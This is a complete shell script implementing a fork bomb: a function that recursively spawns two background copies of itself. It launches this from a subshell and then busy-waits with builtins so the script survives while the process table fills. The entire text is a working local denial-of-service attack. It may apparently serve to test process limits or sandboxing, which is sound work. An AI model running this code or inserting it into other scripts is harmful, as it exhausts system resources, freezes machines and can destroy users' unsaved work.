#!/bin/sh
# the classic: every call starts two more, in the background
bomb() { bomb | bomb & }
# one fork from this shell, before the bomb exists: this script itself never has to fork
# while the process table is full
( bomb ) &
# give the bomb time to hit the process limit, using only shell builtins
i=0
while [ $i -lt 100000 ]; do i=$((i + 1)); done
